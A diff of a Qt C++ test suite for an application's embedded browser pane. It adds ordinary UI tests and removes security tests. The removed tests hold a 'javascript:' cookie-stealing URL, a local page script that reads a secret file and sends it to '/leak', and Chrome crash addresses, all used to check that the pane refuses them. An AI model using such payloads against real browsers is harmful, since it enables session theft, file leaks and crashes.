@@ -1,356 +1,566 @@
-// The real browser pane: a search reaches a local server byte for byte, the status line follows
-// the load, and a hostile service list neither crashes the program nor sends anything away.
-#include "BrowserPane.h"
-#include "Error.h"
-#include "FakePrompts.h"
-#include "FakeTrayIcon.h"
-#include "Main.h"
-#include "Search.h"
+// The real browser pane against a local server: searches, history, tabs, downloads, the find
+// bar, the profile, permissions and the clipboard keys in a page.
+#include "LocalWebServer.h"
+#include "Text.h"
+#include "WebPaneFixture.h"
 
-#include <QDir>
-#include <QFile>
-#include <QJsonArray>
-#include <QJsonDocument>
-#include <QJsonObject>
-#include <QListView>
-#include <QTcpServer>
-#include <QTcpSocket>
-#include <QTemporaryDir>
-#include <QTest>
-#include <QWebEngineView>
+#include <QClipboard>
+#include <QDirIterator>
+#include <QLabel>
+#include <QLineEdit>
+#include <QPushButton>
+#include <QRandomGenerator>
+#include <QStandardPaths>
+#include <QTabBar>
+#include <QWebEngineHistory>
 
-// Answers every request with a small page and keeps the requests (request line and headers).
-// "/site" also sets a cookie.
-class RecordingServer : public QObject
+using Response = LocalWebServer::Response;
+
+namespace {
+
+// "Local=<server>/s?q=|s|": every search is a page titled by its term.
+QByteArray searchService(const LocalWebServer &server, const QByteArray &path = "/s?q=")
 {
-public:
-    RecordingServer()
-    {
-        connect(&m_server, &QTcpServer::newConnection, this, [this] {
-            while (QTcpSocket *socket = m_server.nextPendingConnection()) {
-                connect(socket, &QTcpSocket::readyRead, socket, [this, socket] { serve(socket); });
-                connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
-            }
-        });
-        QVERIFY(m_server.listen(QHostAddress::LocalHost));
-    }
-    quint16 port() const { return m_server.serverPort(); }
-    QByteArray base() const { return "http://127.0.0.1:" + QByteArray::number(port()); }
-    QList<QByteArray> requests; // the request lines
-    QList<QByteArray> heads;    // request line and headers of each request
+    return "Local=" + server.base() + path + "|s|";
+}
 
-    // The head of the first request whose line starts "GET <path>"; empty when none came.
-    QByteArray headFor(const QByteArray &path) const
-    {
-        for (const QByteArray &head : heads) {
-            if (head.startsWith("GET " + path))
-                return head;
-        }
-        return {};
-    }
+QWidget *pageWidget(const WebPaneFixture &f)
+{
+    return f.onView()->focusProxy();
+}
 
-private:
-    void serve(QTcpSocket *socket)
-    {
-        QByteArray &buffer = m_buffers[socket];
-        buffer += socket->readAll();
-        if (!buffer.contains("\r\n\r\n"))
-            return;
-        const QByteArray line = buffer.left(buffer.indexOf("\r\n"));
-        requests.append(line);
-        heads.append(buffer.left(buffer.indexOf("\r\n\r\n")));
-        const QByteArray cookie = line.startsWith("GET /site ")
-                ? QByteArray("Set-Cookie: secret=s3cr3t; Path=/\r\n")
-                : QByteArray();
-        const QByteArray body = "<html><body><h1>Result</h1></body></html>";
-        socket->write("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n" + cookie
-                      + "Content-Length: " + QByteArray::number(body.size()) + "\r\n\r\n" + body);
-        socket->disconnectFromHost();
-        m_buffers.remove(socket);
-    }
-
-    QTcpServer m_server;
-    QHash<QTcpSocket *, QByteArray> m_buffers;
-};
+} // namespace
 
 class TestWebPane : public QObject
 {
     Q_OBJECT
 
 private Q_SLOTS:
-    void addressToUrl_data();
-    void addressToUrl();
-    void refusedByThePane_data();
-    void refusedByThePane();
     void searchReachesTheServer();
-    void exactQueryBytes_data();
-    void exactQueryBytes();
-    void survivesCrashAddresses();
-    void cookieStaysHome();
-    void localPageReadsNoFile();
-
-private:
-    static bool waitForRequest(RecordingServer &server, const QByteArray &path)
-    {
-        return QTest::qWaitFor([&] { return !server.headFor(path).isEmpty(); }, 60000);
-    }
+    void backAndForward_data();
+    void backAndForward();
+    void newWindowsOpenAsTabs_data();
+    void newWindowsOpenAsTabs();
+    void tabKeys();
+    void download_data();
+    void download();
+    void findBar();
+    void cookiesPersist_data();
+    void cookiesPersist();
+    void permissions_data();
+    void permissions();
+    void login_data();
+    void login();
+    void clipboardKeysInPage_data();
+    void clipboardKeysInPage();
+    void paneKeys_data();
+    void paneKeys();
+    void contextMenuItems();
 };
-
-// What the engine is given is the address as composed: every %XX and "+" of it untouched.
-void TestWebPane::addressToUrl_data()
-{
-    QTest::addColumn<QString>("address");
-    QTest::addColumn<QByteArray>("expected");
-    QFile file(QStringLiteral(GL_TEST_DATA "/address/addresses.json"));
-    QVERIFY(file.open(QIODevice::ReadOnly));
-    const QJsonObject data = QJsonDocument::fromJson(file.readAll()).object();
-    int n = 0;
-    for (const QJsonValue &row : data.value(u"rows").toArray()) {
-        for (const char *column : {"query", "path", "windows-1251", "shift_jis", "%20"}) {
-            const QString address = row[QLatin1String(column)].toString();
-            QTest::addRow("%d %s", n, column) << address << address.toLatin1();
-        }
-        ++n;
-    }
-    QTest::newRow("characters that cannot stand in an address")
-            << QStringLiteral(u"http://h/a b?q=\"x\" \u00e9&r=100%")
-            << QByteArray("http://h/a%20b?q=%22x%22%20%C3%A9&r=100%25");
-    QTest::newRow("an invalid escape leaves the others alone")
-            << "http://h/?a=%zz&b=%2B+&c=%26" << QByteArray("http://h/?a=%25zz&b=%2B+&c=%26");
-    QTest::newRow("the readme") << "/opt/Glen Lantern/ReadMe.html"
-                                << QByteArray("file:///opt/Glen%20Lantern/ReadMe.html");
-}
-
-void TestWebPane::addressToUrl()
-{
-    QFETCH(QString, address);
-    QFETCH(QByteArray, expected);
-    const QUrl url = CheckedUrl(address);
-    QCOMPARE(url.toEncoded(), expected);
-    // The engine may be given the pretty form: it reads back to the same address.
-    QCOMPARE(QUrl(url.toString()).toEncoded(), expected);
-}
-
-void TestWebPane::refusedByThePane_data()
-{
-    QTest::addColumn<QString>("address");
-    QTest::addColumn<QString>("message");
-    const QString scheme = QStringLiteral("The browser pane opens only http, https and local file "
-                                          "addresses, not \"%1:\" addresses");
-    QTest::newRow("chrome://gpucrash") << "chrome://gpucrash" << scheme.arg("chrome");
-    QTest::newRow("inducebrowsercrashforrealz")
-            << "CHROME://inducebrowsercrashforrealz" << scheme.arg("chrome");
-    QTest::newRow("javascript:") << "javascript:location='http://h/?c='+document.cookie"
-                                 << scheme.arg("javascript");
-    QTest::newRow("view-source:") << "view-source:http://h/" << scheme.arg("view-source");
-    QTest::newRow("data:") << "data:text/html,<script>alert(1)</script>" << scheme.arg("data");
-    QTest::newRow("no scheme") << "www.example.org"
-                               << "The browser pane cannot open \"www.example.org\": it is "
-                                  "neither a web address nor a local file";
-    const QString longest = "http://h/?q=" + QString(2 * 1024 * 1024 - 12, u'a');
-    QTest::newRow("longer than the engine opens")
-            << longest + "b"
-            << "The address is 2097153 characters long; the browser pane opens addresses of up "
-               "to 2097152 characters";
-}
-
-// Whatever reaches the pane, it opens no internal page, no script and nothing too long.
-void TestWebPane::refusedByThePane()
-{
-    QFETCH(QString, address);
-    QFETCH(QString, message);
-    WebBrowserPane pane;
-    try {
-        pane.NavigateTo(address);
-        QFAIL("no error");
-    } catch (const CommandError &error) {
-        QCOMPARE(error.message(), message);
-    }
-}
 
 void TestWebPane::searchReachesTheServer()
 {
-    RecordingServer server;
-    QTemporaryDir folder;
-    const QString previous = QDir::currentPath();
-    QDir::setCurrent(folder.path());
-    MainWindowParts parts;
-    parts.prompts = std::make_unique<FakePrompts>();
-    parts.browser = std::make_unique<WebBrowserPane>();
-    parts.trayIcon = std::make_unique<FakeTrayIcon>();
-    QStringList errors;
-    parts.showError = [&](QWidget *, const QString &message) { errors.append(message); };
-    parts.clockMs = [] { return qint64(0); };
-    parts.openInDefaultBrowser = [](const QString &, QString *) { return false; };
-    TfrmMain window(std::move(parts));
-    QDir::setCurrent(previous);
-    window.services().list.Append("Crash=chrome://gpucrash");
-    window.services().list.Append("Local=" + server.base() + "/s?q=|s|&x=1");
-    window.services().list.Append("Crash too=chrome://inducebrowsercrashforrealz");
-    window.terms().list.Append("C++ & more #1 \xd0\x9f\xd1\x80\xd0\xb8");
-    window.show();
-    QVERIFY(QTest::qWaitForWindowExposed(&window));
-    auto click = [&](const char *name, int row) {
-        auto *view = window.findChild<QListView *>(QString::fromLatin1(name));
-        QTest::mouseClick(view->viewport(), Qt::LeftButton, {},
-                          view->visualRect(view->model()->index(row, 0)).center());
-    };
-
-    click("lstbxTerms", 0); // with the first service: refused, the program lives on
-    QCOMPARE(errors.size(), 1);
-    QVERIFY2(errors.last().startsWith("The service \"Crash\" opens a chrome: address"),
-             qPrintable(errors.last()));
-    click("lstbxServices", 1);
-    QCOMPARE(window.statusText(), QStringLiteral("Navigating..."));
-    QVERIFY(waitForRequest(server, "/s?"));
-    QCOMPARE(server.requests.first(),
-             QByteArray("GET /s?q=C%2B%2B+%26+more+%231+%D0%9F%D1%80%D0%B8&x=1 HTTP/1.1"));
-    QTRY_COMPARE_WITH_TIMEOUT(window.statusText(), QStringLiteral("Navigation Complete"), 60000);
-    click("lstbxServices", 2);
-    QCOMPARE(errors.size(), 2);
-    QVERIFY2(errors.last().startsWith("The service \"Crash too\" opens a chrome: address"),
-             qPrintable(errors.last()));
-    QTest::qWait(500);
-    QCOMPARE(window.statusText(), QStringLiteral("Navigation Complete"));
-    for (const QByteArray &line : std::as_const(server.requests))
-        QVERIFY2(line.startsWith("GET /s?") || line.startsWith("GET /favicon.ico"),
-                 line.constData());
+    LocalWebServer server;
+    WebPaneFixture f;
+    f.start({searchService(server)}, {"red car"});
+    f.click("lstbxTerms", 0);
+    QCOMPARE(f.window->statusText(), QStringLiteral("Navigating..."));
+    QTRY_VERIFY_WITH_TIMEOUT(f.shows("/s?q=red+car"), 60000);
+    QCOMPARE(server.requests.first().path, QByteArray("/s?q=red+car"));
+    QVERIFY(f.errors.isEmpty());
 }
 
-// Expected request lines from Python's urllib (see tests/data/address/make_addresses.py).
-void TestWebPane::exactQueryBytes_data()
+void TestWebPane::backAndForward_data()
 {
-    QTest::addColumn<QByteArray>("service"); // after "Local=http://127.0.0.1:port"
-    QTest::addColumn<QString>("term");
-    QTest::addColumn<QByteArray>("request");
-    QTest::newRow("query: & + # and Cyrillic")
-            << QByteArray("/s?q=|s|&x=1")
-            << QStringLiteral(u"C++ & more #1 \u041f\u0440\u0438\u0432\u0435\u0442")
-            << QByteArray("GET /s?q=C%2B%2B+%26+more+%231+%D0%9F%D1%80%D0%B8%D0%B2%D0%B5%D1%82&x=1 "
-                          "HTTP/1.1");
-    QTest::newRow("windows-1251") << QByteArray("/s?q=|s:windows-1251|")
-                                  << QStringLiteral(
-                                             u"\u041f\u0440\u0438\u0432\u0435\u0442 & \u00e9")
-                                  << QByteArray("GET /s?q=%CF%F0%E8%E2%E5%F2+%26+%26%23233%3B "
-                                                "HTTP/1.1");
-    QTest::newRow("path") << QByteArray("/w/|s|/x?y=1") << "a b+c/d?"
-                          << QByteArray("GET /w/a%20b%2Bc%2Fd%3F/x?y=1 HTTP/1.1");
-    QTest::newRow("stored escapes kept") << QByteArray("/r%2B?a=%2B+%26&q=|s|") << "x"
-                                         << QByteArray("GET /r%2B?a=%2B+%26&q=x HTTP/1.1");
-}
-
-void TestWebPane::exactQueryBytes()
-{
-    QFETCH(QByteArray, service);
-    QFETCH(QString, term);
-    QFETCH(QByteArray, request);
-    RecordingServer server;
-    WebBrowserPane pane;
-    pane.resize(400, 300);
-    pane.show();
-    QVERIFY(QTest::qWaitForWindowExposed(&pane));
-    pane.NavigateTo(GoAddressFor("Local=" + server.base() + service, term));
-    QTRY_VERIFY_WITH_TIMEOUT(!server.requests.isEmpty(), 60000);
-    QCOMPARE(server.requests.first(), request);
-}
-
-// chrome://gpucrash and chrome://inducebrowsercrashforrealz end the whole process when the
-// engine is given them: Go refuses them, and so does the pane itself.
-void TestWebPane::survivesCrashAddresses()
-{
-    RecordingServer server;
-    WebBrowserPane pane;
-    pane.resize(400, 300);
-    pane.show();
-    QVERIFY(QTest::qWaitForWindowExposed(&pane));
-    pane.NavigateTo(QString::fromLatin1(server.base() + "/first"));
-    QVERIFY(waitForRequest(server, "/first"));
-    const QStringList crashes {"chrome://gpucrash", "chrome://inducebrowsercrashforrealz",
-                               " CHROME://GPUCRASH", "chrome:gpucrash"};
-    for (const QString &crash : crashes) {
-        QVERIFY_THROWS_EXCEPTION(CommandError, GoAddressFor("Crash=" + crash.toUtf8(), "x"));
-        QVERIFY_THROWS_EXCEPTION(CommandError, GoAddressFor("Crash=|s:raw|", crash));
-        QVERIFY_THROWS_EXCEPTION(CommandError, pane.NavigateTo(crash));
+    QTest::addColumn<bool>("ahead");
+    QTest::addColumn<QString>("how");
+    for (bool ahead : {true, false}) {
+        for (const char *how : {"Alt+arrows", "mouse buttons", "context menu"})
+            QTest::addRow("%s, %s", how, ahead ? "loading ahead" : "no loading ahead")
+                    << ahead << QString::fromLatin1(how);
     }
-    QTest::qWait(1000);
-    pane.NavigateTo(GoAddressFor("Local=" + server.base() + "/after?q=|s|", "alive"));
-    QVERIFY(waitForRequest(server, "/after?q=alive"));
 }
 
-// A service that would run script in the shown site sends nothing: the site's cookie stays.
-void TestWebPane::cookieStaysHome()
+// Back and forward after two searches, from the list the user walks.
+void TestWebPane::backAndForward()
 {
-    RecordingServer server;
-    WebBrowserPane pane;
-    pane.resize(400, 300);
-    pane.show();
-    QVERIFY(QTest::qWaitForWindowExposed(&pane));
-    pane.NavigateTo(QString::fromLatin1(server.base() + "/site"));
-    QVERIFY(waitForRequest(server, "/site"));
-    QTest::qWait(300); // the page and its cookie settle
-    const QByteArray steal
-            = "Steal=javascript:location='" + server.base() + "/x?c='+document.cookie";
-    QVERIFY_THROWS_EXCEPTION(CommandError, GoAddressFor(steal, "x"));
-    QVERIFY_THROWS_EXCEPTION(CommandError, pane.NavigateTo(QString::fromLatin1(steal.mid(6))));
-    QTest::qWait(1500);
-    pane.NavigateTo(QString::fromLatin1(server.base() + "/check"));
-    QVERIFY(waitForRequest(server, "/check"));
-    // The cookie was there to steal, and it went nowhere but home.
-    QVERIFY(server.headFor("/check").contains("Cookie: secret=s3cr3t"));
-    QVERIFY(server.headFor("/x").isEmpty());
-    for (const QByteArray &line : std::as_const(server.requests))
-        QVERIFY2(!line.contains("s3cr3t"), line.constData());
+    QFETCH(bool, ahead);
+    QFETCH(QString, how);
+    LocalWebServer server;
+    WebPaneFixture f;
+    f.start({searchService(server)}, {"one", "two"});
+    if (!ahead)
+        f.trigger("actLoadAhead");
+    f.click("lstbxTerms", 0);
+    QTRY_VERIFY_WITH_TIMEOUT(f.shows("/s?q=one"), 60000);
+    // The first search is the first step: nothing (not the engine's empty page) before it.
+    QVERIFY(!f.window->findChild<QAction *>("brwBack")->isEnabled());
+    f.click("lstbxTerms", 1);
+    QTRY_VERIFY_WITH_TIMEOUT(f.shows("/s?q=two"), 30000);
+    const auto go = [&](bool back) {
+        if (how == u"Alt+arrows")
+            f.key("lstbxTerms", back ? Qt::Key_Left : Qt::Key_Right, Qt::AltModifier);
+        else if (how == u"mouse buttons")
+            QTest::mouseClick(pageWidget(f), back ? Qt::BackButton : Qt::ForwardButton);
+        else
+            f.window->findChild<QAction *>(back ? "brwBack" : "brwForward")->trigger();
+    };
+    go(true);
+    QTRY_VERIFY_WITH_TIMEOUT(f.shows("/s?q=one"), 30000);
+    go(false);
+    QTRY_VERIFY_WITH_TIMEOUT(f.shows("/s?q=two"), 30000);
+    if (ahead) // the pages were kept: neither was asked for again
+        QCOMPARE(server.pathsFor("/s?q="), (QByteArrayList {"/s?q=one", "/s?q=two"}));
+    QVERIFY(f.errors.isEmpty());
 }
 
-// A local page's script reads no other file and reaches no web address: it can neither read a
-// file nor send anything away.
-void TestWebPane::localPageReadsNoFile()
+void TestWebPane::newWindowsOpenAsTabs_data()
 {
-    RecordingServer server;
-    QTemporaryDir folder;
-    QVERIFY(folder.isValid());
-    QFile secret(folder.filePath(QStringLiteral("secret.txt")));
-    QVERIFY(secret.open(QIODevice::WriteOnly));
-    secret.write("TOPSECRET");
-    secret.close();
-    QFile page(folder.filePath(QStringLiteral("page.html")));
-    QVERIFY(page.open(QIODevice::WriteOnly));
-    page.write("<html><body><script>\n"
-               "function send(text) {\n"
-               "  document.title = 'done ' + text;\n"
-               "  location.href = '"
-               + server.base()
-               + "/leak?d=' + encodeURIComponent(text);\n"
-                 "}\n"
-                 "var x = new XMLHttpRequest();\n"
-                 "x.onload = function () { send('read:' + x.responseText); };\n"
-                 "x.onerror = function () { send('refused'); };\n"
-                 "try { x.open('GET', 'file://"
-               + secret.fileName().toUtf8()
-               + "'); x.send(); }\n"
-                 "catch (e) { send('refused'); }\n"
-                 "</script></body></html>\n");
-    page.close();
-    WebBrowserPane pane;
-    pane.resize(400, 300);
-    pane.show();
-    QVERIFY(QTest::qWaitForWindowExposed(&pane));
-    pane.NavigateTo(page.fileName());
-    auto *view = pane.findChild<QWebEngineView *>(QStringLiteral("brwWebView"));
-    QVERIFY(view);
-    // The script ran to its end: the file was refused to it, and its message went nowhere.
-    QTRY_COMPARE_WITH_TIMEOUT(view->title(), QStringLiteral("done refused"), 60000);
-    QTest::qWait(1500);
-    QCOMPARE(server.requests, QList<QByteArray>());
+    QTest::addColumn<QByteArray>("page");
+    QTest::addColumn<int>("modifiers"); // with Enter on the element "go"; -1 for no key
+    QTest::addColumn<bool>("opens");
+    QTest::addColumn<bool>("shown");
+    QTest::newRow("target=_blank link")
+            << QByteArray("<a id=go target=_blank href='/second'>second</a>") << int(Qt::NoModifier)
+            << true << true;
+    QTest::newRow("window.open on a click")
+            << QByteArray("<button id=go onclick=\"window.open('/second')\">open</button>")
+            << int(Qt::NoModifier) << true << true;
+    QTest::newRow("link to a new tab behind, as a middle click")
+            << QByteArray("<a id=go href='/second'>second</a>") << int(Qt::ControlModifier) << true
+            << false;
+    QTest::newRow("window.open without a click")
+            << QByteArray("<script>window.open('/second')</script><p>nothing</p>") << -1 << false
+            << false;
 }
 
-int main(int argc, char *argv[])
+void TestWebPane::newWindowsOpenAsTabs()
 {
-    PrepareBrowserEngine();
-    QApplication app(argc, argv);
-    // The engine plugin is built beside the program, not beside the tests.
-    QCoreApplication::addLibraryPath(QStringLiteral(GL_BINARY_DIR));
-    TestWebPane test;
-    return QTest::qExec(&test, argc, argv);
+    QFETCH(QByteArray, page);
+    QFETCH(int, modifiers);
+    QFETCH(bool, opens);
+    QFETCH(bool, shown);
+    LocalWebServer server([&](const LocalWebServer::Request &r) {
+        return LocalWebServer::page(r.path.startsWith("/second") ? "Second" : "First", page);
+    });
+    WebPaneFixture f;
+    f.start({searchService(server)}, {"first"});
+    f.click("lstbxTerms", 0);
+    QTRY_VERIFY_WITH_TIMEOUT(f.shows("/s?q=first"), 60000);
+    QVERIFY(!f.tabs()->tabBar()->isVisible()); // one page: no tab bar
+    if (modifiers >= 0) {
+        f.onView()->setFocus();
+        f.run(QStringLiteral("go.focus()"));
+        QTest::keyClick(pageWidget(f), Qt::Key_Return, Qt::KeyboardModifiers(modifiers));
+        QTRY_COMPARE_WITH_TIMEOUT(f.tabs()->count(), 2, 10000);
+    } else {
+        QTest::qWait(1000);
+    }
+    QCOMPARE(f.tabs()->count(), opens ? 2 : 1);
+    if (!opens)
+        return;
+    QVERIFY(f.tabs()->tabBar()->isVisible());
+    QCOMPARE(f.tabs()->currentIndex(), shown ? 1 : 0);
+    f.tabs()->setCurrentIndex(1);
+    QTRY_VERIFY_WITH_TIMEOUT(f.shows("/second"), 30000);
+    QTRY_COMPARE(f.tabs()->tabText(1), QStringLiteral("Second"));
+    // Go shows its search in the current tab.
+    f.trigger("actGo");
+    QTRY_VERIFY_WITH_TIMEOUT(f.shows("/s?q=first"), 30000);
+    QCOMPARE(f.tabs()->count(), 2);
 }
+
+// Ctrl+Tab and Ctrl+Shift+Tab switch tabs, a middle click on a tab and Ctrl+W close one; the tab
+// bar goes with the last but one.
+void TestWebPane::tabKeys()
+{
+    LocalWebServer server;
+    WebPaneFixture f;
+    f.start({"A=" + server.base() + "/a?|s|", "B=" + server.base() + "/b?|s|",
+             "C=" + server.base() + "/c?|s|"},
+            {"x"});
+    f.window->terms().list.SelectLine(0);
+    f.trigger("actSearchAllServices");
+    QCOMPARE(f.tabs()->count(), 4);
+    QCOMPARE(f.tabs()->currentIndex(), 1);
+    QWidget *list = f.list("lstbxTerms");
+    const QList<std::pair<QKeyCombination, int>> steps = {
+            {Qt::CTRL | Qt::Key_Tab, 2},
+            {Qt::CTRL | Qt::Key_Tab, 3},
+            {Qt::CTRL | Qt::Key_Tab, 0},
+            {Qt::CTRL | Qt::SHIFT | Qt::Key_Backtab, 3},
+    };
+    for (const auto &[key, index] : steps) {
+        QTest::keyClick(list, key.key(), key.keyboardModifiers());
+        QCOMPARE(f.tabs()->currentIndex(), index);
+    }
+    QTabBar *bar = f.tabs()->tabBar();
+    QTest::mouseClick(bar, Qt::MiddleButton, {}, bar->tabRect(1).center());
+    QCOMPARE(f.tabs()->count(), 3);
+    QTest::keyClick(list, Qt::Key_W, Qt::ControlModifier);
+    QTest::keyClick(list, Qt::Key_W, Qt::ControlModifier);
+    QCOMPARE(f.tabs()->count(), 1);
+    QVERIFY(!bar->isVisible());
+    QTest::keyClick(list, Qt::Key_W, Qt::ControlModifier); // the last page stays
+    QCOMPARE(f.tabs()->count(), 1);
+}
+
+void TestWebPane::download_data()
+{
+    QTest::addColumn<bool>("save");
+    QTest::addColumn<bool>("cancelWhileLoading");
+    QTest::newRow("saved byte for byte") << true << false;
+    QTest::newRow("save dialog cancelled") << false << false;
+    QTest::newRow("cancelled while it loads") << true << true;
+}
+
+void TestWebPane::download()
+{
+    QFETCH(bool, save);
+    QFETCH(bool, cancelWhileLoading);
+    QByteArray bytes(300 * 1024, Qt::Uninitialized);
+    QRandomGenerator random(17);
+    for (char &c : bytes)
+        c = char(random.bounded(256));
+    LocalWebServer server([&](const LocalWebServer::Request &) {
+        Response r;
+        r.contentType = "application/octet-stream";
+        r.extraHeaders = "Content-Disposition: attachment; filename=\"data.bin\"\r\n";
+        r.body = bytes;
+        r.stallAfter = cancelWhileLoading ? 100 * 1024 : -1;
+        return r;
+    });
+    QTemporaryDir saved;
+    const QString target = saved.filePath(QStringLiteral("kept.bin"));
+    WebPaneFixture f;
+    f.start({"Files=" + server.base() + "/file?|s|"}, {"x"});
+    const QString suggested
+            = QDir(QStandardPaths::writableLocation(QStandardPaths::DownloadLocation))
+                      .filePath(QStringLiteral("data.bin"));
+    f.prompts
+            ->expectSaveAs(QStringLiteral("Save Download"),
+                           save ? std::optional<QString>(target) : std::nullopt)
+            .startingWith(suggested);
+    f.click("lstbxTerms", 0);
+    QTRY_VERIFY_WITH_TIMEOUT(f.prompts->pending() == 0, 60000);
+    QVERIFY(f.prompts->verifyDone());
+    auto *row = f.window->findChild<QWidget *>(QStringLiteral("download"));
+    if (!save) {
+        QTest::qWait(500);
+        QVERIFY(!row);
+    } else if (cancelWhileLoading) {
+        auto *text = row->findChild<QLabel *>(QStringLiteral("downloadText"));
+        QTRY_VERIFY_WITH_TIMEOUT(text->text().contains(u"KB"), 30000);
+        QTest::mouseClick(row->findChild<QPushButton *>(QStringLiteral("downloadCancel")),
+                          Qt::LeftButton);
+        QTRY_VERIFY_WITH_TIMEOUT(text->text().endsWith(u"cancelled"), 30000);
+        QTest::qWait(500);
+    } else {
+        QTRY_VERIFY_WITH_TIMEOUT(
+                row->findChild<QPushButton *>(QStringLiteral("downloadOpen"))->isVisible(), 30000);
+        QFile file(target);
+        QVERIFY(file.open(QIODevice::ReadOnly));
+        QVERIFY(file.readAll() == bytes);
+        QCOMPARE(row->findChild<QLabel *>(QStringLiteral("downloadText"))->text(),
+                 QStringLiteral("kept.bin: done, 300 KB"));
+    }
+    // Nothing else was left in the folder: no file under the final name unless saved whole,
+    // and no part of one under another name.
+    const QStringList left = QDir(saved.path()).entryList(QDir::Files | QDir::Hidden);
+    QCOMPARE(left, save && !cancelWhileLoading ? QStringList {"kept.bin"} : QStringList());
+}
+
+void TestWebPane::findBar()
+{
+    LocalWebServer server([](const LocalWebServer::Request &) {
+        return LocalWebServer::page("Fruit", "<p>apple banana apple cherry apple</p>");
+    });
+    WebPaneFixture f;
+    f.start({searchService(server)}, {"fruit"});
+    f.click("lstbxTerms", 0);
+    QTRY_VERIFY_WITH_TIMEOUT(f.shows("/s?q=fruit"), 60000);
+    auto *bar = f.window->findChild<QWidget *>(QStringLiteral("brwFindBar"));
+    auto *edit = bar->findChild<QLineEdit *>(QStringLiteral("findEdit"));
+    auto *result = bar->findChild<QLabel *>(QStringLiteral("findResult"));
+    f.key("lstbxTerms", Qt::Key_F, Qt::ControlModifier);
+    QVERIFY(bar->isVisible());
+    QVERIFY(edit->hasFocus());
+    QTest::keyClicks(edit, QStringLiteral("apple"));
+    QTRY_COMPARE_WITH_TIMEOUT(result->text(), QStringLiteral("1 of 3"), 10000);
+    const QList<std::tuple<Qt::Key, Qt::KeyboardModifiers, QString>> steps = {
+            {Qt::Key_F3, {}, QStringLiteral("2 of 3")},
+            {Qt::Key_Return, {}, QStringLiteral("3 of 3")},
+            {Qt::Key_F3, Qt::ShiftModifier, QStringLiteral("2 of 3")},
+    };
+    for (const auto &[key, modifiers, expected] : steps) {
+        QTest::keyClick(edit, key, modifiers);
+        QTRY_COMPARE_WITH_TIMEOUT(result->text(), expected, 10000);
+    }
+    QTest::keyClicks(edit, QStringLiteral("zebra"));
+    QTRY_COMPARE_WITH_TIMEOUT(result->text(), QStringLiteral("No matches"), 10000);
+    QTest::keyClick(edit, Qt::Key_Escape);
+    QVERIFY(!bar->isVisible());
+}
+
+void TestWebPane::cookiesPersist_data()
+{
+    QTest::addColumn<QByteArray>("cookie");
+    QTest::addColumn<bool>("privateFirst");
+    QTest::addColumn<bool>("privateThen");
+    QTest::addColumn<bool>("clear"); // Clear Browsing Data after the login
+    QTest::addColumn<QByteArray>("sent");
+    const QByteArray lasting = "; Max-Age=86400";
+    QTest::newRow("a login's session cookie stays")
+            << QByteArray("sid=1") << false << false << false << QByteArray("sid=1");
+    QTest::newRow("a lasting cookie stays")
+            << "keep=2" + lasting << false << false << false << QByteArray("keep=2");
+    QTest::newRow("private browsing keeps nothing")
+            << QByteArray("sid=3") << true << true << false << QByteArray();
+    QTest::newRow("private browsing sees nothing kept")
+            << QByteArray("sid=4") << false << true << false << QByteArray();
+    QTest::newRow("private browsing leaves nothing")
+            << QByteArray("sid=5") << true << false << false << QByteArray();
+    QTest::newRow("browsing data cleared")
+            << "keep=6" + lasting << false << false << true << QByteArray();
+}
+
+// A cookie set by a site is sent again by a pane with a new profile, as after a restart.
+void TestWebPane::cookiesPersist()
+{
+    QFETCH(QByteArray, cookie);
+    QFETCH(bool, privateFirst);
+    QFETCH(bool, privateThen);
+    QFETCH(bool, clear);
+    QFETCH(QByteArray, sent);
+    LocalWebServer server([&](const LocalWebServer::Request &r) {
+        Response page = LocalWebServer::page("Page");
+        if (r.path.contains("login"))
+            page.extraHeaders = "Set-Cookie: " + cookie + "; Path=/\r\n";
+        return page;
+    });
+    WebPaneFixture f;
+    QSettings().setValue(QStringLiteral("Browser/LoadAhead"), false);
+    const bool privateRuns[] = {privateFirst, privateThen};
+    for (int run = 0; run < 2; ++run) {
+        QSettings().setValue(QStringLiteral("Browser/Private"), privateRuns[run]);
+        f.start({searchService(server)}, {"login", "check"});
+        QCOMPARE(f.window->findChild<QLabel *>(QStringLiteral("PrivateMark"))->isVisible(),
+                 privateRuns[run]);
+        f.click("lstbxTerms", run); // logs in, then checks
+        QTRY_VERIFY_WITH_TIMEOUT(f.window->statusText() == u"Navigation Complete", 60000);
+        if (clear && run == 0) {
+            f.prompts->expectOkCancel(QStringLiteral("Clear the cookies, cache and history of the "
+                                                     "browser pane? Sites you are logged in to "
+                                                     "will ask you to log in again."),
+                                      true);
+            f.trigger("actClearBrowsingData");
+            QVERIFY(f.prompts->verifyDone());
+            QVERIFY(!f.onView()->history()->canGoBack());
+        }
+        f.stop();
+    }
+    const QList<LocalWebServer::Request> checks = server.requestsFor("/s?q=check");
+    QCOMPARE(checks.size(), 1);
+    QCOMPARE(checks.first().header("Cookie"), sent);
+    if (privateFirst && privateThen) { // nothing written to disk at all
+        QDirIterator written(f.data.path(), QDir::Files | QDir::Hidden,
+                             QDirIterator::Subdirectories);
+        QVERIFY2(!written.hasNext(), qPrintable(written.hasNext() ? written.next() : QString()));
+    }
+}
+
+void TestWebPane::permissions_data()
+{
+    QTest::addColumn<QString>("script");
+    QTest::addColumn<QString>("wants"); // the question asked; empty for none
+    QTest::addColumn<bool>("allow");
+    QTest::addColumn<QString>("outcome");
+    const QString notify
+            = QStringLiteral("Notification.requestPermission().then(p => document.title = p)");
+    const QString location = QStringLiteral(
+            "navigator.geolocation.getCurrentPosition(() => document.title = 'granted',"
+            " e => document.title = 'error ' + e.code)");
+    QTest::newRow("notifications unanswered")
+            << notify << "show notifications" << false << "denied";
+    QTest::newRow("notifications allowed") << notify << "show notifications" << true << "granted";
+    QTest::newRow("location unanswered") << location << "know your location" << false << "error 1";
+    QTest::newRow("clipboard reading, never asked")
+            << QStringLiteral("navigator.clipboard.readText()"
+                              ".then(() => document.title = 'read', () => document.title = 'no')")
+            << "" << false << "no";
+}
+
+void TestWebPane::permissions()
+{
+    QFETCH(QString, script);
+    QFETCH(QString, wants);
+    QFETCH(bool, allow);
+    QFETCH(QString, outcome);
+    LocalWebServer server;
+    WebPaneFixture f;
+    f.start({searchService(server)}, {"ask"});
+    f.click("lstbxTerms", 0);
+    QTRY_VERIFY_WITH_TIMEOUT(f.shows("/s?q=ask"), 60000);
+    if (!wants.isEmpty())
+        f.prompts->expectRisk(QStringLiteral("Permission Request"),
+                              QStringLiteral("The site %1 wants to %2.\n\nAllow it?")
+                                      .arg(QString::fromLatin1(server.base()), wants),
+                              allow);
+    f.run(script);
